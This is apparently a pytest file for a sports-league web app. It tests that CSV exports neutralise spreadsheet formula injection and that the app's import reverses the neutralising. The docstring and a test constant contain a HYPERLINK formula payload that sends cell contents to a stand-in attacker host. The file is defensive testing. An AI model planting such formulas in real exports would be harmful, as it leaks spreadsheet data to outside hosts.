"""Every CSV the service writes is safe to open in a spreadsheet (issue #44: a player renamed
``=HYPERLINK("http://evil.example/?"&A1,"Stats")`` came out verbatim in the season's export,
to run in the commissioner's spreadsheet): a text cell starting with =, +, -, @, a tab or a
carriage return is written after a quote mark (OWASP's rule), and our own import takes the
quote mark off again."""

from __future__ import annotations

import csv
import io

import pytest

from league.exchange.csv_export import csv_table_export
from league.exchange.csv_files import csv_read, csv_write
from league.exchange.csv_import import csv_teams_import
from league.models import Team
from rosters.models import Player

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Stats")'
NAMES = [EVIL, "+1 Rovers", "-minus", "@SUM(A1)", "\tTabbed", "\rReturn", "'Quoted", "''Twice"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_a_players_formula_name_is_neutralised_in_the_export(world):
    player = Player.objects.filter(team=world.home).order_by("pk").first()
    Player.objects.filter(pk=player.pk).update(name=EVIL)
    Team.objects.filter(pk=world.away.pk).update(name="=1+1")

    players = _cells(csv_table_export(season=world.season, table="players"))
    standings = _cells(csv_table_export(season=world.season, table="standings"))

    cells = [cell for row in players + standings for cell in row]
    assert "'" + EVIL in cells
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_numbers_stay_numbers():
    (_, row) = _cells(csv_write(heads=["score_difference"], rows=[[-3]]))
    assert row == ["-3"]


def test_our_import_reads_back_the_text_our_export_neutralised():
    text = csv_write(heads=["team", "short_name"], rows=[[name, "X"] for name in NAMES])
    assert all(row[0].startswith("'") for row in _cells(text)[1:])

    read = csv_read(data=text.encode(), required=["team", "short_name"])

    assert [row["team"] for row in read.rows] == [name.strip() for name in NAMES]


def test_a_hand_written_quote_is_kept():
    read = csv_read(data=b"team,short_name\n'Rovers,ROV\n", required=["team", "short_name"])
    assert read.rows[0]["team"] == "'Rovers"


@pytest.mark.django_db
def test_a_team_named_like_a_formula_round_trips_through_the_import(world, make_league):
    _, season = make_league("Formula League", teams=0, commissioners=(world.commissioner,))
    text = csv_write(heads=["team", "short_name"], rows=[[EVIL, "EVL"], ["@home", "HOM"]])

    csv_teams_import(season=season, data=text.encode(), actor=world.commissioner, dry_run=False)

    assert sorted(Team.objects.filter(league=season.league).values_list("name", flat=True)) == [
        EVIL,
        "@home",
    ]
